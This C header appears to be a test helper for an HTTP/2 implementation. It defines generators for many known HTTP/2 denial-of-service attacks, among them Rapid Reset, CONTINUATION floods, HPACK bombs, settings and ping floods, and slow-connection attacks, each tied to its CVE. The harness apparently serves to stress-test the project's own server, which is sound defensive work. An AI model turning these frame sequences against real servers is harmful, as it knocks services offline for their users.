/*
 * helpers/attacks.h - what each attack sends. A step puts one unit into the peer's buffer, or returns false
 * while it has to wait; tests/helpers/attacker.c calls it until `count` units are made.
 */
#ifndef WEIR_ATTACKS_H
#define WEIR_ATTACKS_H

#include "tests/helpers/attack_peer.h"

static uint64_t now_ns; /* of the turn in hand */

#include "tests/helpers/attack_subtle.h"

struct attack {
  const char *name;
  const char *what; /* with CVE, for --list */
  bool (*step)(struct peer *peer);
  void (*begin)(struct peer *peer); /* after the preface, instead of an empty SETTINGS; or NULL */
  bool quiet;                       /* acknowledges nothing */
};

#define SETTING_TABLE   1
#define SETTING_STREAMS 3
#define SETTING_WINDOW  4
#define MILLISECONDS    1000000u
#define SLOW_PATH       "/delay/60000"
#define WIDE            0x7fffffffu

static void begin_closed(struct peer *peer) {
  put_setting(peer, SETTING_WINDOW, 0);
}

static void begin_wide(struct peer *peer) {
  put_setting(peer, SETTING_WINDOW, WIDE);
  put_number(peer, WINDOW_UPDATE, 0, WIDE - 65535);
}

/* Once: a request that stays open. */
static void hold_open(struct peer *peer, bool post, const char *path) {
  if (peer->next_id == 1) put_request(peer, post, path, !post);
}

static bool wait_for(struct peer *peer, uint64_t milliseconds) {
  if (now_ns < peer->next_ns) return false;
  peer->next_ns = now_ns + milliseconds * MILLISECONDS;
  return true;
}

/* ---- requests -------------------------------------------------------------------------------- */

static bool step_get(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  put_request(peer, false, options.path, true);
  return true;
}

/* variant 0: at once; 1: 100 requests, then 100 resets; 2: a reset 1 ms later; 3: the reset first
 * in the next segment. */
static bool step_rapid_reset(struct peer *peer) {
  if (options.variant == 1) {
    for (uint32_t i = 0; i < 100; i++)
      put_request(peer, false, options.path, true);
    for (uint32_t i = 100; i > 0; i--)
      put_number(peer, RST_STREAM, peer->next_id - 2 * i, 8);
    return true;
  }
  if (options.variant >= 2) {
    if (peer->made > 0 || !wait_for(peer, options.variant == 2 ? 1 : 0)) return false;
    if (peer->next_id > 1) put_number(peer, RST_STREAM, peer->next_id - 2, 8);
    put_request(peer, false, options.path, true);
    return true;
  }
  const uint32_t id = put_request(peer, false, options.path, true);
  put_number(peer, RST_STREAM, id, 8);
  return true;
}

/* HEADERS that open a stream and depend on it, or that are followed by what does not belong there;
 * variants 6 and up. */
static void put_unfinished(struct peer *peer, unsigned variant) {
  static const uint8_t block[] = {0x83, 0x86, 0x04, 5,    '/',  's', 'i', 'n', 'k',
                                  0x01, 1,    'a',  0x0f, 0x0d, 1,   '5'}; /* content-length: 5 */
  const size_t len = variant <= 7 ? sizeof block : sizeof block - 4;
  const uint32_t id = peer->next_id;
  peer->next_id += 2;
  put_frame(peer, HEADERS, END_HEADERS, id, block, len);
  switch (variant) {
  case 6: put_frame(peer, DATA, 0, id, "123456", 6); break;                   /* more than that */
  case 7: put_frame(peer, DATA, END_STREAM, id, "1234", 4); break;            /* less */
  case 8: put_frame(peer, HEADERS, END_HEADERS, id, "\0\1a\1b", 5); break;    /* no END_STREAM */
  default: put_frame(peer, HEADERS, END_HEADERS | END_STREAM, id, "\x82", 1); /* :method */
  }
}

/* The six ways to make a server reset a stream (CVE-2025-8671), and four more. */
static bool step_made_reset(struct peer *peer) {
  static const uint8_t zeros[8];
  if (options.variant >= 6) {
    put_unfinished(peer, options.variant);
    return true;
  }
  const uint32_t id = put_request(peer, false, SLOW_PATH, true);
  const uint8_t itself[5] = {(uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
                             (uint8_t)id, 0};
  switch (options.variant) {
  case 0: put_number(peer, WINDOW_UPDATE, id, 0); break;
  case 1: put_number(peer, WINDOW_UPDATE, id, WIDE); break;
  case 2: put_frame(peer, PRIORITY, 0, id, zeros, 4); break;
  case 3: put_frame(peer, PRIORITY, 0, id, itself, 5); break;
  case 4:
    peer->next_id = id;
    put_request(peer, false, SLOW_PATH, true);
    break;
  default: put_frame(peer, DATA, 0, id, zeros, 8); break;
  }
  return true;
}

/* A request without :path, which each earns RST_STREAM. */
static bool step_invalid(struct peer *peer) {
  static const uint8_t block[] = {0x82, 0x86, 0x01, 1, 'a'};
  put_frame(peer, HEADERS, END_HEADERS | END_STREAM, peer->next_id, block, sizeof block);
  peer->next_id += 2;
  return true;
}

static bool step_over_limit(struct peer *peer) {
  put_request(peer, false, SLOW_PATH, true);
  return true;
}

/* ---- control frames -------------------------------------------------------------------------- */

static bool step_ping(struct peer *peer) {
  const uint64_t number = peer->units;
  put_frame(peer, PING, 0, 0, &number, 8);
  return true;
}

static bool step_settings(struct peer *peer) {
  put_head(peer, 0, SETTINGS, 0, 0);
  return true;
}

/* variant: entries of each frame. */
static bool step_settings_large(struct peer *peer) {
  static const uint8_t entry[6] = {0x7a, 0x7a, 0, 0, 0, 1};
  put_head(peer, 6 * (size_t)options.variant, SETTINGS, 0, 0);
  for (unsigned i = 0; i < options.variant; i++)
    put(peer, entry, 6);
  return true;
}

static void begin_seesaw(struct peer *peer) {
  begin_closed(peer);
  for (int i = 0; i < 100; i++)
    put_request(peer, false, "/bytes/1000000", true);
}

static bool step_seesaw(struct peer *peer) {
  put_setting(peer, SETTING_WINDOW, peer->units % 2 ? 0 : WIDE);
  return true;
}

static bool step_tables(struct peer *peer) {
  static const uint32_t sizes[] = {0, 4096, 0xffffffff, 0};
  put_setting(peer, SETTING_TABLE, sizes[peer->units % 4]);
  return true;
}

static bool step_priority(struct peer *peer) {
  const uint32_t id = 1 + 2 * (uint32_t)(peer->units % 100000);
  put_head(peer, 5, PRIORITY, 0, id);
  put_u32(peer, (id > 1 ? id - 2 : 0) | (peer->units % 2 ? 0x80000000u : 0)); /* a deep chain */
  put(peer, "\xff", 1);
  return true;
}

/* variant: bytes of the field. */
static bool step_priority_update(struct peer *peer) {
  put_head(peer, 4 + (size_t)options.variant, PRIORITY_UPDATE, 0, 0);
  put_u32(peer, 1 + 2 * (uint32_t)(peer->units % 1000000));
  put_zeros(peer, 'u', options.variant);
  return true;
}

static bool step_window_update(struct peer *peer) {
  hold_open(peer, false, SLOW_PATH);
  put_number(peer, WINDOW_UPDATE, peer->units % 2, 1);
  return true;
}

static bool step_unknown(struct peer *peer) {
  const unsigned type = 0x11 + (unsigned)(peer->units % 0xef);
  put_head(peer, 8, type, (unsigned)(peer->units / 7) & 0xff, (uint32_t)(peer->units % 3));
  put_zeros(peer, 'x', 8);
  return true;
}

/* ALTSVC and ORIGIN, which only servers send. */
static bool step_extension(struct peer *peer) {
  put_head(peer, 6, peer->units % 2 ? 0xa : 0xc, 0, 0);
  put(peer, "\0\4abcd", 6);
  return true;
}

static bool step_goaway(struct peer *peer) {
  put_head(peer, 8 + 1000, GOAWAY, 0, 0);
  put_u32(peer, (uint32_t)peer->units);
  put_u32(peer, 0);
  put_zeros(peer, 'g', 1000);
  return true;
}

/* ---- DATA ------------------------------------------------------------------------------------ */

/* variant 1: nothing but padding. */
static bool step_empty_data(struct peer *peer) {
  hold_open(peer, true, "/echo");
  if (options.variant == 0) {
    put_head(peer, 0, DATA, 0, 1);
    return true;
  }
  if (peer->credit < 256 || peer->stream_credit < 256) return false;
  peer->credit -= 256;
  peer->stream_credit -= 256;
  put_head(peer, 256, DATA, PADDED, 1);
  put(peer, "\xff", 1);
  put_zeros(peer, 0, 255);
  return true;
}

/* A body in frames of `variant` bytes, within the windows, whose echo we do not let come back. */
static bool step_small_data(struct peer *peer) {
  const int64_t bytes = options.variant ? options.variant : 1;
  hold_open(peer, true, "/echo");
  if (peer->credit < bytes || peer->stream_credit < bytes) return false;
  peer->credit -= bytes;
  peer->stream_credit -= bytes;
  put_head(peer, (size_t)bytes, DATA, 0, 1);
  put_zeros(peer, 'd', (size_t)bytes);
  return true;
}

/* An upload in frames of 10 bytes, of which a window allows enough. */
static bool step_sink(struct peer *peer) {
  const uint64_t bytes = 10;
  hold_open(peer, true, "/sink");
  if (peer->credit < (int64_t)bytes || peer->stream_credit < (int64_t)bytes) return false;
  peer->credit -= (int64_t)bytes;
  peer->stream_credit -= (int64_t)bytes;
  put_frame(peer, DATA, 0, 1, "0123456789", bytes);
  return true;
}

static void begin_bytewise(struct peer *peer) {
  put_setting(peer, SETTING_WINDOW, 1);
  for (int i = 0; i < 100; i++)
    put_request(peer, false, "/bytes/1000000", true);
}

/* Credit by the byte, as often as it makes the server send. */
static bool step_dribble(struct peer *peer) {
  if (peer->granted == 0) return false;
  put_number(peer, WINDOW_UPDATE, 0, peer->granted);
  peer->granted = 0;
  put_number(peer, WINDOW_UPDATE, peer->granted_id, 1);
  return true;
}

static void begin_downloads(struct peer *peer) {
  begin_closed(peer);
  for (int i = 0; i < 100; i++)
    put_request(peer, false, "/bytes/100000000", true);
}

/* Looks alive once a second. variant 0: says nothing; 1: PING; 2: one byte of credit a stream. */
static bool step_hold(struct peer *peer) {
  if (!wait_for(peer, 1000) || options.variant == 0) return false;
  if (options.variant == 1) return step_ping(peer);
  put_number(peer, WINDOW_UPDATE, 0, 100);
  for (uint32_t id = 1; id < peer->next_id; id += 2)
    put_number(peer, WINDOW_UPDATE, id, 1);
  return true;
}

/* Wide windows and many large downloads, for a client that does not read. */
static bool step_download(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  put_request(peer, false, "/bytes/1000000000", true);
  return true;
}

/* ---- header blocks --------------------------------------------------------------------------- */

/* HEADERS that never end. variant: bytes of each CONTINUATION (0: empty). With --path huffman the
 * bytes are one long Huffman-coded string. */
static bool step_continuation(struct peer *peer) {
  if (peer->next_id == 1) {
    put_head(peer, 1, HEADERS, END_STREAM, 1);
    put(peer, "\x82", 1);
    peer->next_id = 3;
  }
  put_head(peer, options.variant, CONTINUATION, 0, 1);
  put_zeros(peer, 0x82, options.variant);
  return true;
}

static const uint8_t request_start[] = {0x82, 0x86, 0x04, 1, '/', 0x01, 1, 'a'};

static void put_block(struct peer *peer, size_t len) {
  put_head(peer, sizeof request_start + len, HEADERS, END_HEADERS | END_STREAM, peer->next_id);
  put(peer, request_start, sizeof request_start);
  peer->next_id += 2;
}

/* References of one octet to one entry, as many as a frame holds. variant 0: an empty value
 * (bookkeeping, CVE-2026-49975); 1: cookie crumbs; 2: 3900 octets each (CVE-2016-6581). */
static bool step_bomb(struct peer *peer) {
  static const uint8_t empty[] = {0x40, 1, 'a', 0}, crumb[] = {0x60, 1, 'c'};
  static const uint8_t large[] = {0x40, 1, 'b', 0x7f, 0xbd, 0x1d};
  const size_t references = 16000;
  if (peer->next_id > 1) {
    put_block(peer, references);
  } else if (options.variant == 2) {
    put_block(peer, sizeof large + 3900);
    put(peer, large, sizeof large);
    put_zeros(peer, 'v', 3900);
    return true;
  } else {
    const uint8_t *entry = options.variant ? crumb : empty;
    const size_t len = options.variant ? sizeof crumb : sizeof empty;
    put_block(peer, len);
    put(peer, entry, len);
    return true;
  }
  put_zeros(peer, 0xbe, references);
  return true;
}

/* Fields with neither name nor value (CVE-2019-9516). */
static bool step_nameless(struct peer *peer) {
  put_block(peer, 3 * 100);
  for (int i = 0; i < 100; i++)
    put(peer, "\x00\x00\x00", 3);
  return true;
}

/* Valid requests whose fields cost the most to decode: Huffman codes, all inserted into the table,
 * which each time evicts (CVE-2022-41723 and header-table churn). variant: fields, or 60. */
static bool step_churn(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  const size_t value = 120, fields = options.variant ? options.variant : 60;
  put_block(peer, fields * (value + 4));
  peer->in_flight++;
  for (size_t i = 0; i < fields; i++) {
    const uint8_t head[] = {0x40, 1, (uint8_t)('a' + i % 26), (uint8_t)(0x80 | value)};
    put(peer, head, sizeof head);
    put_zeros(peer, 0x21, value); /* 00100 00100 ...: some letter, five bits each */
  }
  return true;
}

/* ---- slowness -------------------------------------------------------------------------------- */

/* A byte a second of something that is never complete. variant 1: a frame; 2: a header block, of
 * which nothing more comes; 3: a request's body; 4: the same, of which nothing more comes. */
static bool step_slow(struct peer *peer) {
  if (!wait_for(peer, 1000)) return false;
  const bool first = peer->units == 0;
  if (options.variant % 2 == 0 && !first) return true;
  switch (options.variant) {
  case 1:
    if (first) put_head(peer, 16000, HEADERS, END_HEADERS, 1);
    put(peer, "\x82", 1);
    break;
  case 2:
    put_head(peer, 1, HEADERS, 0, 1);
    put(peer, "\x82", 1);
    break;
  default:
    if (first) put_request(peer, false, SLOW_PATH, false);
    put_head(peer, 1, DATA, 0, 1);
    put(peer, "s", 1);
  }
  return true;
}

/* Pretends to be alive, without a request: PING, SETTINGS, PRIORITY and WINDOW_UPDATE in turn. */
static bool step_alive(struct peer *peer) {
  if (!wait_for(peer, 200)) return false;
  switch (peer->units % 4) {
  case 0: return step_ping(peer);
  case 1: return step_settings(peer);
  case 2: return step_priority(peer);
  default: put_number(peer, WINDOW_UPDATE, 0, 1); return true;
  }
}

/* A connection error, then noise of every kind. */
static bool step_after_death(struct peer *peer) {
  static uint32_t state = 1;
  if (peer->units == 0) put_head(peer, 0, DATA, 0, 0);
  state = state * 1664525u + 1013904223u;
  const unsigned len = state >> 20 & 0x3ff, type = state >> 8 & 0x1f;
  put_head(peer, len, type, state & 0xff, state >> 4 & 0xff);
  put_zeros(peer, (uint8_t)(state >> 16), len / 2);
  return true;
}

static bool step_idle(struct peer *peer) {
  (void)peer;
  return false;
}

static const struct attack attacks[] = {
    {"get", "requests, all valid, 100 in flight", step_get, begin_wide, false},
    {"rapid-reset", "CVE-2023-44487", step_rapid_reset, NULL, false},
    {"made-reset", "CVE-2025-8671", step_made_reset, NULL, false},
    {"invalid", "CVE-2019-9514", step_invalid, NULL, false},
    {"over-limit", "more streams than allowed", step_over_limit, NULL, false},
    {"ping", "CVE-2019-9512", step_ping, NULL, false},
    {"settings", "CVE-2019-9515", step_settings, NULL, false},
    {"settings-large", "CVE-2020-11080", step_settings_large, NULL, false},
    {"seesaw", "INITIAL_WINDOW_SIZE up and down", step_seesaw, begin_seesaw, false},
    {"tables", "HEADER_TABLE_SIZE up and down", step_tables, NULL, false},
    {"priority", "CVE-2019-9513", step_priority, NULL, false},
    {"priority-update", "RFC 9218 signals for idle streams", step_priority_update, NULL, false},
    {"window-update", "credit by the byte", step_window_update, NULL, false},
    {"unknown", "frames of unknown types", step_unknown, NULL, false},
    {"extension", "ALTSVC and ORIGIN", step_extension, NULL, false},
    {"goaway", "GOAWAY with debug data", step_goaway, NULL, false},
    {"empty-data", "CVE-2019-9518", step_empty_data, NULL, false},
    {"small-data", "CVE-2020-12603", step_small_data, begin_closed, false},
    {"sink", "an upload in frames of 10 bytes", step_sink, NULL, false},
    {"dribble", "CVE-2019-9511", step_dribble, begin_bytewise, false},
    {"hold", "CVE-2023-43622", step_hold, begin_downloads, false},
    {"download", "CVE-2019-9517", step_download, begin_wide, false},
    {"continuation", "CVE-2024-27316", step_continuation, NULL, true},
    {"bomb", "CVE-2026-49975, CVE-2016-6581", step_bomb, begin_closed, false},
    {"nameless", "CVE-2019-9516", step_nameless, NULL, false},
    {"churn", "header-table churn", step_churn, begin_wide, false},
    {"slow", "slow frames, headers, bodies", step_slow, NULL, false},
    {"silent", "no SETTINGS ACK (CVE-2025-53506)", step_idle, NULL, true},
    {"alive", "keep-alive without requests", step_alive, NULL, false},
    {"after-death", "CVE-2026-27135", step_after_death, NULL, false},
    {"reset-at", "CVE-2023-44487, in the midst of responses", step_reset_at, begin_wide, false},
    {"reset-half", "every second request is reset", step_reset_half, begin_wide, false},
    {"amplify", "valid requests of 64 KB, by reference", step_amplify, begin_wide, false},
    {"crumbs", "cookies in many pieces", step_crumbs, begin_wide, false},
    {"long-path", "targets of 4 KB, by reference", step_long_path, begin_wide, false},
    {"new-paths", "another path in each request", step_new_paths, begin_wide, false},
    {"small-credit", "windows opened in small steps", step_small_credit, begin_closed, false},
    {"seesaw-large", "INITIAL_WINDOW_SIZE, 32 times a frame", step_seesaw_large, begin_seesaw,
     false},
    {"temperate", "some of everything, within the budgets", step_temperate, begin_wide, false},
    {"regroup", "PRIORITY that moves many streams", step_regroup, begin_wide, false},
    {"hoard-pushes", "pushes into shut windows", step_hoard_pushes, begin_hoard_pushes, false},
    {"hold-files", "downloads that stop at once", step_idle, begin_hold_files, false},
    {"preface", "a preface that does not end", step_preface, begin_preface, true},
    {"idle", "connections that ask for nothing", step_idle, NULL, false},
};

#endif
